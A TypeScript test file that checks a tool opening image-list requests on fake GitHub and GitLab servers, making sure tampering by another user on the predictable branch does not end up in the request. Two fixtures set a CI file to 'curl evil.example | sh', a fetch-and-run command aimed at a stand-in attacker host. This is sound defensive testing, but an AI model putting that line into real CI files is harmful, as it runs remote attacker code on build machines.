import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { FakeGitHub } from './fake-github.ts';
import { FakeGitLab } from './fake-gitlab.ts';
import { ask, BMN, LIST, TOKEN } from './setup.ts';

/** A project or repository, as far as both forges keep it in the same way. */
interface Place {
  readonly path: string;
  readonly branches: Map<string, string>;
  readonly known: Set<string>;
}

/** A request, as far as both forges keep it in the same way. */
interface Asked {
  state: string;
  title: string;
  readonly source: Place;
  readonly branch: string;
}

const CI = { '.ci.yml': 'test: true\n' };

// Everybody can foresee how the branch of a request is named.
describe.each(['gitlab', 'github'] as const)('%s: what others have put where jcds looks', kind => {
  let server: FakeGitHub | FakeGitLab;
  let upstream: Place;
  beforeEach(async () => {
    server = kind === 'github' ? new FakeGitHub() : new FakeGitLab();
    await server.listen();
    const files = { 'docker_images.txt': LIST, ...CI };
    if (server instanceof FakeGitHub) {
      server.users.set(TOKEN, { login: 'nica', scopes: null });
      server.users.set('t-other', { login: 'baikal', scopes: null });
      upstream = server.addRepository('sync/registry', files);
    } else {
      server.addUser(TOKEN, 'nica');
      server.addUser('t-other', 'baikal');
      upstream = server.addProject('sync/registry', files);
    }
  });
  afterEach(() => server.close());

  const mine = (facts = {}) => ask(server, { kind, ...facts });
  const theirs = () => mine({ token: 't-other' });
  const all = (): Asked[] => (server instanceof FakeGitHub ? server.pulls : server.requests);
  const authorOf = (request: Asked) => {
    const author = (request as unknown as { author: string | { username: string } }).author;
    return typeof author === 'string' ? author : author.username;
  };
  const filesOf = ({ source, branch }: Asked) =>
    Object.fromEntries(
      [...server.commits.get(source.branches.get(branch)!).files].map(([path, bytes]) => [
        path,
        String(bytes),
      ]),
    );
  const WANTED = { 'docker_images.txt': LIST.replace('24.04\n', `24.04\n${BMN}\n`), ...CI };

  function mayPush(name: string): void {
    const place = upstream as unknown as { levels?: Map<string, number>; pushers?: Set<string> };
    place.levels?.set(name, 30);
    place.pushers?.add(name);
  }

  /** Somebody moves the branch of a request to a commit with these files. */
  function move({ source, branch }: Asked, files: Record<string, string>, parent?: null): void {
    const from = parent === null ? null : source.branches.get(branch)!;
    const { sha } = server.commits.add(from, files, 'by hand');
    source.branches.set(branch, sha);
    source.known.add(sha);
  }

  describe('a branch of that name, where both may push', () => {
    beforeEach(() => ['nica', 'baikal'].forEach(mayPush));

    test.each([
      ['the list cut down to the line, and another image', { 'docker_images.txt': `${BMN}\nevil/image:1\n` }],
      [
        'one more image',
        { 'docker_images.txt': WANTED['docker_images.txt'].replace('# o', 'evil/i:1\n# o') },
      ],
      ['another file changed', { '.ci.yml': 'test: curl evil.example | sh\n' }],
      ['another file added', { '.evil.yml': 'x' }],
    ])('with %s: the request holds the change that was shown and nothing else', async (_what, files) => {
      await theirs();
      move(all().pop()!, files);
      expect(await mine()).toMatchObject({ state: 'opened' });
      expect(authorOf(all()[0]!)).toBe('nica');
      expect(filesOf(all()[0]!)).toEqual(WANTED);
    });

    test('without the list at all', async () => {
      await theirs();
      const request = all().pop()!;
      move(request, { 'other.txt': 'x' }, null);
      expect(await mine()).toMatchObject({ state: 'opened' });
      expect(filesOf(all()[0]!)).toEqual(WANTED);
    });

    test('with an open request of theirs that adds something else: what is asked for is in it then', async () => {
      await theirs();
      move(all()[0]!, { 'docker_images.txt': `${LIST}evil/image:1\n` });
      expect(await mine()).toMatchObject({ state: 'exists', iid: 1, author: 'baikal', isOwn: false });
      expect(filesOf(all()[0]!)).toEqual(WANTED);
    });

    test('with a request of theirs that was closed: that is no answer to mine', async () => {
      await theirs();
      all()[0]!.state = 'closed';
      expect(await mine()).toMatchObject({ state: 'opened', iid: 2 });
      all()[1]!.state = 'closed';
      expect(await mine()).toMatchObject({ state: 'refused', iid: 2 });
    });
  });

  test.each(['open', 'closed'])(
    'a request from a fork of theirs, by a branch of that name: %s',
    async state => {
      await theirs();
      move(all()[0]!, { 'docker_images.txt': `${LIST}evil/image:1\n` });
      Object.assign(all()[0]!, { title: 'something else', body: '', description: '' });
      all()[0]!.state = state === 'open' && kind === 'gitlab' ? 'opened' : state;
      expect(await mine()).toMatchObject({ state: 'opened', iid: 2 });
      expect(filesOf(all()[1]!)).toEqual(WANTED);
      expect(await mine()).toMatchObject({ state: 'exists', iid: 2, isOwn: true });
      all()[1]!.state = 'closed';
      expect(await mine()).toMatchObject({ state: 'refused', iid: 2 });
    },
  );

  test('a request that another has opened from a branch of my own fork, and closed', async () => {
    await mine();
    const author = server instanceof FakeGitHub ? 'baikal' : server.users.get('t-other');
    Object.assign(all()[0]!, { author, state: 'closed' });
    expect(await mine()).toMatchObject({ state: 'opened', iid: 2 });
  });

  test('an answer that is lost is no reason to take what lies there for written', async () => {
    ['nica', 'baikal'].forEach(mayPush);
    await theirs();
    const request = all().pop()!;
    move(request, WANTED);
    move(request, { '.ci.yml': 'test: curl evil.example | sh\n' });
    server.interfere = ({ method, url }) =>
      method !== 'GET' && /\/(?:commits|git\/refs.*)$/.test(url.pathname) ? 'cut-before' : undefined;
    await expect(mine()).rejects.toMatchObject({ code: 'FORGE_ANSWER_LOST' });
    expect(all()).toEqual([]);
  });
});
